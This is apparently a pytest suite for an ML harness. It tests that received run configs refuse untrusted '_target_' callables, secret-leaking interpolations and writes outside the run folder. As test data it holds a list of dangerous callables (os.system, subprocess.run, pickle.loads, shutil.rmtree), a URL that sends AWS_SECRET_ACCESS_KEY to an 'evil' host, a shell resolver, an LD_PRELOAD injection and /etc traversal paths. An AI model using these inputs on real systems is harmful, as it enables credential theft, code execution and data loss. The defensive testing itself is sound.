"""What generate, evaluate and replay build of a received run, and what they refuse: think like an attacker."""

import re
from contextlib import nullcontext

import pytest
from omegaconf import OmegaConf
from places import PROJECT

from harness.config.compose import choices, compose
from harness.config.trust import is_allowed, refuse_untrusted
from harness.errors import UserError
from harness.run.received import confine

ATTACKS = [
    "os.system",
    "subprocess.run",
    "builtins.eval",
    "builtins.exec",
    "shutil.rmtree",
    "pathlib.Path.write_text",
    "eval",
    "lm.fit.os.system",
    "harness.cli.subprocess.run",
    "harness.cli.load",
    "lm.data.sources.glob.glob",
    "lm.fit.train",
    "harness.telemetry.events.EventLog",
    "harness.telemetry.logs.RunFile",
    "harness.run.debug_folder.remove",
    "lm.data.prepare.prepare",
    "lm.data.prepare.Path.unlink",
    "lm.data.sources.Path",
    "lm.data.sources.TextSource.check",
    "torch.load",
    "torch.hub.load",
    "torch.optim.lr_scheduler.sys.exit",
    "torch.nn.modules.module.os.system",
    "torch.save",
    "transformers.AutoModel.from_pretrained",
    "transformers.pipeline",
    "transformers.AutoConfig.from_pretrained",
    "transformers.LlamaConfig.from_pretrained",
    "transformers.utils.import_utils.os.system",
    "hydra.utils.instantiate",
    "hydra.utils.call",
    "hydra._internal.utils._locate",
    "lightning.pytorch.callbacks.ModelCheckpoint",
    "lightning.pytorch.callbacks.LambdaCallback",
    "lightning.pytorch.callbacks.OnExceptionCheckpoint",
    "lm..data.sources.TextSource",
    "lm.data.sources",
    "lm/data/sources.TextSource",
    "lm.data.sources.TextSource ",
    "../lm.data.sources.TextSource",
    "lm.data.__init__.x",
    "harness.data._x.Y",
    "",
    None,
    1,
    ["os.system"],
    {"a": 1},
    "omegaconf.OmegaConf.register_new_resolver",
    "functools.partial",
    "operator.methodcaller",
    "importlib.import_module",
    "runpy.run_path",
    "ctypes.CDLL",
    "pickle.loads",
    "numpy.load",
    "lm.data.sources.TextSource\nos.system",
    "transformers.LlamaConfig\n",
    "torch.nn.Linear.os",
    "${x}",
    "lm.models.build.AutoModelForCausalLM",
    "lm.data.prepare.np.save",
]


@pytest.mark.parametrize("target", ATTACKS, ids=repr)
def test_what_could_run_something_is_not_on_the_list(target: object) -> None:
    assert not is_allowed(target)


@pytest.mark.parametrize(
    "nest",
    [
        "{'x': T}",
        "{'x': [{'y': T}]}",
        "{'_target_': 'torch.nn.Linear', '_args_': [T]}",
        "{'a': {**T, '_partial_': True}}",
        "{'_target_': 'transformers.LlamaConfig', 'x': T}",
    ],
)
def test_a_target_is_found_wherever_it_hides(nest: str) -> None:
    cfg = OmegaConf.create({"model": eval(nest, {"T": {"_target_": "os.system", "command": "true"}})})
    with pytest.raises(UserError, match=r"(?s)os\.system.*--trust os\.system") as refused:
        refuse_untrusted(cfg, ["model"])
    assert "model." in str(refused.value)
    refuse_untrusted(cfg, ["model"], trusted=["os.system"])
    refuse_untrusted(cfg, ["model"], trusted=["os"])
    refuse_untrusted(cfg, ["data"])  # which is not built


@pytest.mark.parametrize(
    ("part", "value"),
    [
        ("data", {"path": "https://evil/?${oc.env:AWS_SECRET_ACCESS_KEY}"}),
        ("data", {"path": "${oc.env:${name}}"}),
        ("data", {"path": "${shell:ls}"}),
        ("model", {"config": {"_target_": "${data.x}"}}),
        ("model", {"config": {"_target_": "transformers.LlamaConfig", "_attn_implementation": "evil/kernel"}}),
        ("model", {"attention": "evil/kernel"}),
        ("env", {"LD_PRELOAD": "/tmp/x.so"}),
        ("env", {"PYTHONPATH": "/tmp"}),
        ("env", {"HF_ENDPOINT": "https://evil"}),
        ("env", {"WANDB_MODE": "${oc.env:MY_TOKEN}"}),
    ],
)
def test_what_leaks_or_loads_without_a_target_is_refused_too(part: str, value: object) -> None:
    cfg = OmegaConf.create({part: value})
    if part == "env" and "WANDB_MODE" in value:
        with pytest.raises(UserError):
            refuse_untrusted(cfg, [part])
        return
    with pytest.raises(UserError, match="--trust"):
        refuse_untrusted(cfg, [part])


def test_a_target_that_another_key_holds_is_refused_where_it_is_built() -> None:
    with pytest.raises(UserError, match=r"model\.config\._target_: os\.system"):
        refuse_untrusted(
            OmegaConf.create({"model": {"config": "${aside}"}, "aside": {"_target_": "os.system"}}), ("model",)
        )


def test_a_token_may_come_from_the_environment_where_a_token_is_asked_for() -> None:
    refuse_untrusted(OmegaConf.create({"data": {"token": "${oc.env:HF_TOKEN}", "path": "${oc.env:DATA}"}}), ["data"])


@pytest.mark.parametrize("group", ["model", "data", "optimizer", "scheduler"])
def test_everything_that_ships_is_trusted(group: str) -> None:
    for choice in choices(group):
        cfg = compose([f"{group}={choice}"])
        refuse_untrusted(cfg, ["model", "data", "optimizer", "scheduler", "trainer", "callbacks", "env"])


def test_every_target_of_the_yaml_files_is_trusted_but_loggers_and_profilers() -> None:
    for file in sorted((PROJECT / "conf").rglob("*.yaml")):
        if {"logger", "hydra", "sweep"} & {*file.parts} or file.stem == "profile":
            continue  # not built by these tools
        for target in re.findall(r"_target_:\s*([\w.]+)", file.read_text(encoding="utf-8")):
            assert is_allowed(target), f"{file.name}: {target}"


@pytest.mark.slow
@pytest.mark.parametrize("words", [["generate.py"], ["evaluate.py"], ["replay"]])
def test_a_received_run_that_names_a_program_does_not_run_it(train, command, tmp_path, words: list[str]) -> None:
    folder = train("trainer.max_steps=2", "run.name=received")
    victim = tmp_path / "victim"
    victim.mkdir()
    cfg = OmegaConf.load(folder / "config.yaml")
    cfg.model.config.x = {"_target_": "shutil.rmtree", "path": str(victim)}
    OmegaConf.save(cfg, folder / "config.yaml")
    path = folder
    if words == ["replay"]:
        path = folder / "nan" / "step-00000001"
        path.mkdir(parents=True)
        (path / "incident.json").write_text('{"step": 1}', encoding="utf-8")
        OmegaConf.save(cfg, path / "config.yaml")
    done = command(*words, str(path))
    assert done.returncode == 2 and victim.is_dir(), done.stderr
    assert "model.config.x._target_: shutil.rmtree" in done.stderr and "--trust shutil.rmtree" in done.stderr
    assert "Traceback" not in done.stderr


def test_no_place_outside_is_written_to_or_read_in_silence(compose, tmp_path, monkeypatch, capfd) -> None:
    project, elsewhere = tmp_path / "project", tmp_path / "elsewhere"
    (project / "runs" / "x").mkdir(parents=True)
    monkeypatch.chdir(project)
    folder = project / "runs" / "x"
    (folder / "data").symlink_to(elsewhere)
    fine = ["data.path=texts", "data.prepared=prepared"]
    confine(compose(*fine), ["model", "data"], folder)
    assert capfd.readouterr().err == ""
    for place in (elsewhere, "../elsewhere", "runs/x/data", "~/prepared"):
        with pytest.raises(UserError, match=r"would write to .*add --trust data\.prepared"):
            confine(compose(*fine, f"data.prepared={place}"), ["data"], folder)
        confine(compose(*fine, f"data.prepared={place}"), ["model"], folder)  # which is all that generate.py takes
    confine(compose(*fine, f"data.prepared={elsewhere}"), ["data"], folder, trusted=["data.prepared"])
    (elsewhere / "0123").mkdir(parents=True)
    (elsewhere / "0123" / "meta.json").touch()
    confine(compose(*fine, f"data.prepared={elsewhere}"), ["data"], folder)
    assert capfd.readouterr().err.count("Reads") == 0
    for override in ("data.path=/etc", "data.val_path=../x", f"data.tokenizer.path={elsewhere}", "model.config=/etc"):
        confine(compose(*fine, override), ["model", "data"], folder)
        assert f"({override.partition('=')[0]} in {folder}/config.yaml)" in capfd.readouterr().err


@pytest.mark.slow
def test_evaluating_a_received_run_makes_no_folder_elsewhere(train, command, corpus, tmp_path) -> None:
    folder = train("trainer.max_steps=2", "run.name=received")
    here, elsewhere = tmp_path / "here", tmp_path / "elsewhere"
    here.mkdir()
    cfg = OmegaConf.load(folder / "config.yaml")
    cfg.data.prepared = str(elsewhere)
    OmegaConf.save(cfg, folder / "config.yaml")
    done = command("evaluate.py", str(folder), cwd=here)
    assert done.returncode == 2 and not elsewhere.exists(), done.stderr
    assert f"would write to {elsewhere} (data.prepared)" in done.stderr and "Traceback" not in done.stderr
    done = command("evaluate.py", str(folder), f"data.path={corpus}", cwd=here)
    assert done.returncode == 0 and not elsewhere.exists(), done.stderr
    done = command("evaluate.py", str(folder), "--trust", "data.prepared", cwd=here)
    assert done.returncode == 0 and elsewhere.exists(), done.stderr
    assert f"Reads {corpus} (data.path in {folder}/config.yaml)" in done.stderr


@pytest.mark.parametrize(
    ("folder", "refused"), [("devtools/temp_debug/1", False), ("/etc", True), ("devtools/temp_debug/1/..", True)]
)
def test_what_a_debug_preset_sets_is_trusted_in_its_own_folder_alone(folder: str, refused: bool) -> None:
    cfg = OmegaConf.create({"debug": {"folder": folder}, "env": {"HF_DATASETS_CACHE": "${debug.folder}/hf/datasets"}})
    with pytest.raises(UserError, match="HF_DATASETS_CACHE") if refused else nullcontext():
        refuse_untrusted(cfg, ["env"])
